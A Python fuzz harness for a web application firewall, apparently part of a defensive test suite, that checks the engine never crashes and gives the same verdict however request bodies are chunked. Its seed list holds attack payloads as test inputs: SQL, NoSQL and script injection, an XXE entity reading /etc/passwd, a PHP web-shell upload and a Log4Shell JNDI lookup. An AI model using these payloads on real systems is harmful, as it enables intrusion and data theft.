"""Requests through the firewall's logic and filters: any of them gets an answer, and none raises, whatever it holds."""

from __future__ import annotations

import json

from fuzz.drive import instrumented, run

with instrumented():
    from bascule.waf.engine import ConnectionFacts, Waf, WafSettings
    from bascule.waf.events import Event

KINDS = (
    b"",
    b"application/x-www-form-urlencoded",
    b"application/json",
    b"text/xml",
    b"multipart/form-data; boundary=x",
    b"application/graphql",
    b"text/plain; charset=utf-16",
    b"application/octet-stream",
)
_CLIENT = ConnectionFacts(b"192.0.2.1", 1, b"192.0.2.2", 80)
_waf = Waf.load(WafSettings(logic="advanced", time_budget=60.0))


def _judge(kind: bytes, target: bytes, field: bytes, body: bytes, size: int) -> tuple[tuple[object, ...], Event | None]:
    """Return the verdict without the phase, which depends on how long the head took, and the event."""
    headers = [(b"host", b"a.example"), (b"cookie", field), (b"x-field", field)]
    if kind:
        headers.append((b"content-type", kind))
    t = _waf.begin(_CLIENT)
    verdict = t.request_head(b"POST", b"/" + target, b"1.1", headers)
    if verdict is None:
        for start in range(0, len(body), size):
            t.request_body(body[start : start + size])
        verdict = t.request_end()
    told = () if verdict is None else (verdict.action, verdict.status, verdict.rule_id, verdict.message)
    return told, t.finish()


def one_input(data: bytes) -> None:
    """The first byte says the media type and how large the pieces are; lines are the target, a field, and the body."""
    if not data:
        return
    kind, size = KINDS[data[0] % len(KINDS)], data[0] // len(KINDS) + 1
    target, _, rest = data[1:].partition(b"\n")
    field, _, body = rest.partition(b"\n")
    if b" " in target or b"\r" in field:
        return  # what no head holds
    verdict, event = _judge(kind, target, field, body, len(body) + 1)
    split, _ = _judge(kind, target, field, body, size)
    assert verdict == split, (verdict, split)
    assert not verdict or event is not None
    if event is not None:
        json.dumps([str(fired.rule.rule_id) for fired in event.fired])


def seeds() -> list[bytes]:
    """One of each media type, and attacks in each place."""
    lines = (
        b"a?id=1%20or%201=1--\nsid=1\n",
        b"\x00a=1&b=<script>alert(1)</script>".replace(b"\x00", b"b\nc=d\n"),
        b'c\n\n{"a": [{"$ne": null}, "x"]}',
        b"d\n\n<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        b'e\n\n--x\r\nContent-Disposition: form-data; name=a; filename="b.php"\r\n\r\n<?php system($_GET[1]);\r\n--x--',
        b"f\n\n{__schema{types{name}}}",
        b"g\n\n" + "${jndi:ldap://a.example/b}".encode("utf-16"),
        b"h\nTzo4OiJzdGRDbGFzcyI6MDp7fQ==\n\xac\xed\x00\x05sr",
    )
    return [bytes((at % len(KINDS) + 16,)) + line for at, line in enumerate(lines)]


if __name__ == "__main__":
    run("waf_request", one_input, seeds())
